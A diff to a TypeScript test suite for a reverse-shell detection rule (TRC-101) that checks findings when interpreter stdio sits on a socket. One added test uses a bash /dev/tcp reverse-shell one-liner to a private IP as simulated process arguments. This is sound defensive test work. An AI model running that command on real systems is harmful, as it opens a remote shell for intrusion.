@@ -34,7 +34,7 @@ const connectOnto = (p: Partial<TaskContext>, fd: number, ms: number) =>
   connect({ task: p, fd, socketIno: SOCK, socketOnFds: [fd], remote: { ...REMOTE }, timeMs: at(ms) });
 
 function run(events: SensorEvent[]) {
-  const engine = new Engine({ rules: [createTrc101Rule({ precise: { contents: undefined } })], hostName: "h", now: () => at(0), logger: silentLogger });
+  const engine = new Engine({ rules: [createTrc101Rule()], hostName: "h", now: () => at(0), logger: silentLogger });
   const findings: Finding[] = events.flatMap((e) => engine.handle(e));
   const stats = engine.stats();
   return { findings, suppressed: stats.suppressedByRule["TRC-101"] ?? {}, folded: stats.foldedByRule["TRC-101"] ?? 0 };
@@ -237,7 +237,7 @@ describe("TRC-101 precise profile: one socket, one finding", () => {
 
 describe("TRC-101 precise profile: bounds", () => {
   it("reports the oldest held trigger when too many processes hold one, instead of dropping it", () => {
-    const engine = new Engine({ rules: [createTrc101Rule({ precise: { contents: undefined, maxHeldProcesses: 2 } })], hostName: "h", logger: silentLogger });
+    const engine = new Engine({ rules: [createTrc101Rule({ precise: { maxHeldProcesses: 2 } })], hostName: "h", logger: silentLogger });
     const findings = [1, 2, 3].flatMap((n) =>
       engine.handle(dup({ task: proc(600 + n, 1, "cat"), newfd: 0, socketIno: 700 + n, socketOnFds: [0], timeMs: at(n) })));
     expect(findings).toHaveLength(1);
@@ -285,5 +285,30 @@ describe("interpreters", () => {
     expect(identifyProgram("/proc/self/exe", ["sh"])).toEqual({ family: "shell", by: "argv0" });
     expect(identifyProgram("/tmp/x", ["x"], (p) => (p === "/tmp/x" ? "shell" : undefined))).toEqual({ family: "shell", by: "content" });
     expect(identifyProgram("/usr/sbin/sshd", ["sshd", "-R"], () => undefined)).toEqual({ family: undefined, by: "none" });
+  });
+});
+
+describe("per-fd findings (fold off) and fds past 9", () => {
+  const reasons = (findings: Finding[]) => findings.map((f) => (f as unknown as { sockeye: { verdict: { reason: string } } }).sockeye.verdict.reason);
+
+  it("every later finding on a reported socket carries the reason the socket was reported for", () => {
+    const engine = new Engine({ rules: [createTrc101Rule()], fold: false, hostName: "h", now: () => at(0), logger: silentLogger });
+    const findings = [
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.66/4444 0>&1"], [tty, tty, tty], 0),
+      dupOnto(shell, 1, [1], 1), dupOnto(shell, 2, [1, 2], 2), dupOnto(shell, 0, [0, 1, 2], 3),
+      exec({ task: shell, filename: "/usr/bin/bash", args: ["bash", "-i"], stdio: [inet(), inet(), inet()], timeMs: at(4) }),
+      ...start(child, "/usr/bin/id", ["id"], [inet(), inet(), inet()], 5),
+    ].flatMap((e) => engine.handle(e));
+    expect(findings).toHaveLength(3);
+    expect(reasons(findings)).toEqual(["interpreter_stdio_on_socket", "interpreter_stdio_on_socket", "interpreter_stdio_on_socket"]);
+  });
+
+  it("with stdio up to fd 10, the fds of a finding are in numeric order and File descriptor is the lowest", () => {
+    const engine = new Engine({ rules: [createTrc101Rule({ stdioFdMax: 10 })], hostName: "h", now: () => at(0), logger: silentLogger });
+    // A capture from before socket inodes: the trigger is reported as Tracee would, with every fd holding the socket.
+    const legacy = dup({ task: shell, newfd: 2, oldfd: 3, socketIno: 0, socketOnFds: [10, 2], origin: "connected", local: { ...LOCAL }, remote: { ...REMOTE }, timeMs: at(1) });
+    const [finding] = engine.handle(legacy) as unknown as { finding: Record<string, unknown>; sockeye: { verdict: { stdio_fds: number[] } } }[];
+    expect(finding!.sockeye.verdict.stdio_fds).toEqual([2, 10]);
+    expect(finding!.finding["File descriptor"]).toBe(2);
   });
 });
